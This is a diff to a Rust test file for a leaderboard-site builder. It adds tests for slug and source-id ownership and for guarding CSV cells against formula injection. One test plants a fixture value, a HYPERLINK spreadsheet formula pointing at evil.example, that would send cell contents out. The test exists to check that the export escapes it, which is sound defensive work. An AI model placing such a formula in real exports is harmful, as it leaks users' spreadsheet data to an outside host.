@@ -312,8 +312,12 @@ fn a_slug_taken_by_another_source_stops_the_import_and_writes_nothing() {
     assert!(!out.status.success());
     let err = String::from_utf8_lossy(&out.stderr);
     assert!(err.contains("would not fit beside the other sources"), "{err}");
-    assert!(err.contains("\"example-lab--qwen-3-8b\" is already used by"), "{err}");
-    assert!(err.contains("lm-arena-chat/hand-made.json"), "{err}");
+    assert!(
+        err.contains(
+            "lm-arena-chat/hand-made.json: slug: \"example-lab--qwen-3-8b\" has a source's prefix"
+        ),
+        "{err}"
+    );
     assert_eq!(file_tree(&data), before);
     assert!(!data.join("sources").exists());
 }
@@ -763,4 +767,93 @@ fn every_address_of_the_leaderboard_only_site_still_leads_to_its_content_beside_
         }
     }
     assert_eq!(models, 18);
+}
+
+#[test]
+fn a_file_outside_a_sources_folder_cannot_claim_the_source() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("data");
+    import_leaderboard(&data);
+    let mut doc: serde_json::Value =
+        serde_json::from_str(&read(&data.join("lm-arena-chat/qwen-3-8b.json"))).unwrap();
+    doc["slug"] = "example-lab--fake".into();
+    doc["source"]["id"] = LAB.into();
+    std::fs::write(data.join("lm-arena-chat/fake.json"), serde_json::to_vec_pretty(&doc).unwrap())
+        .unwrap();
+    let out = energyboard(&[
+        "build",
+        "--data",
+        data.to_str().unwrap(),
+        "--out",
+        dir.path().join("site").to_str().unwrap(),
+    ]);
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("lm-arena-chat/fake.json: slug: \"example-lab--fake\" has a source's prefix"),
+        "{err}"
+    );
+    // Its slug plain, the source's id alone is refused too.
+    doc["slug"] = "fake".into();
+    std::fs::write(data.join("lm-arena-chat/fake.json"), serde_json::to_vec_pretty(&doc).unwrap())
+        .unwrap();
+    let out = energyboard(&[
+        "build",
+        "--data",
+        data.to_str().unwrap(),
+        "--out",
+        dir.path().join("site").to_str().unwrap(),
+    ]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("fake.json: source.id: is \"example-lab\", but the file is not under sources/example-lab/"), "{err}");
+}
+
+#[test]
+fn a_source_name_that_looks_like_a_formula_is_guarded_in_every_csv() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("data");
+    import_leaderboard(&data);
+    let config = dir.path().join("energyboard.toml");
+    let text = read(&PathBuf::from(ROOT).join("tests/fixtures/sources/energyboard.toml"));
+    let evil = "=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"Lab\"\")";
+    std::fs::write(
+        &config,
+        text.replace(
+            "name = \"Example Lab measurements\"",
+            "name = '=HYPERLINK(\"https://evil.example/?\"&A2,\"Lab\")'",
+        ),
+    )
+    .unwrap();
+    ok(&energyboard(&[
+        "import",
+        "--from",
+        "tests/fixtures/sources/public-data",
+        "--data",
+        data.to_str().unwrap(),
+        "--source",
+        LAB,
+        "--config",
+        config.to_str().unwrap(),
+        "--retrieved",
+        "2026-11-21",
+    ]));
+    let site = dir.path().join("site");
+    build(&data, &site);
+    let mut checked = 0;
+    for (rel, bytes) in file_tree(&site) {
+        if rel.extension().is_none_or(|x| x != "csv") {
+            continue;
+        }
+        let text = String::from_utf8(bytes).unwrap();
+        for line in text.lines().skip(1) {
+            for cell in line.split(',') {
+                let cell = cell.trim_start_matches('"');
+                let formula = cell.starts_with(['=', '+', '@'])
+                    || (cell.starts_with('-') && cell.parse::<f64>().is_err());
+                assert!(!formula, "{}: {cell}", rel.display());
+            }
+        }
+        checked += usize::from(text.contains(&format!("'{evil}")));
+    }
+    assert!(checked > 0, "no CSV names the source");
 }
